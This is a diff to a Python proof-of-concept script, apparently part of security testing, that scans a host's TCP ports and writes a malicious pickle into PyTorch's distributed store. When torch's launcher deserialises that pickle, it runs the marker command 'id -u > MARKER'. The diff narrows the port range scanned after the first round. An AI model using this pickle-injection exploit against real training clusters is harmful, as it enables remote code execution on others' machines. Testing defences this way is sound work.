@@ -1,8 +1,8 @@
 """What another host does to a training that it reaches: for the interpreter with torch.
 
-``python store_attack.py ADDRESS MARKER STOP`` knocks at every TCP port again and again until there is a file STOP. Where one is open it
-speaks as a client of torch's store, and puts a pickle where torch's launcher keeps its state, which says ``id -u > MARKER``. It prints
-the ports that were open.
+``python store_attack.py ADDRESS MARKER STOP FIRST LAST`` knocks at these TCP ports again and again until there is a file STOP, in its first and its
+last round at every port. Where one is open it speaks as a client of torch's store, and puts a pickle where torch's launcher keeps its
+state, which says ``id -u > MARKER``. It prints the ports that were open.
 """
 
 from __future__ import annotations
@@ -29,9 +29,9 @@ class Payload:
         return os.system, (f"id -u >{self.marker}",)
 
 
-def open_ports(address: str) -> list[int]:
+def open_ports(address: str, ports: range) -> list[int]:
     found = []
-    for port in range(1, 65536):
+    for port in ports:
         with socket.socket() as caller:
             caller.settimeout(1)
             if caller.connect_ex((address, port)) == 0:
@@ -47,16 +47,19 @@ def attack(address: str, port: int, marker: str) -> None:
 
 
 def main() -> None:
-    address, marker, stop = sys.argv[1:]
+    address, marker, stop, first, last_port = sys.argv[1:]
+    every, likely = range(1, 65536), range(int(first), int(last_port) + 1)
     seen: set[int] = set()
+    begun = False
     while True:
         last = os.path.exists(stop)
-        for port in open_ports(address):
+        for port in open_ports(address, likely if begun and not last else every):
             seen.add(port)
             try:
                 attack(address, port, marker)
             except RuntimeError as error:
                 print(f"{port}: {str(error).splitlines()[0]}", file=sys.stderr)
+        begun = True
         if last:
             break
         time.sleep(0.2)
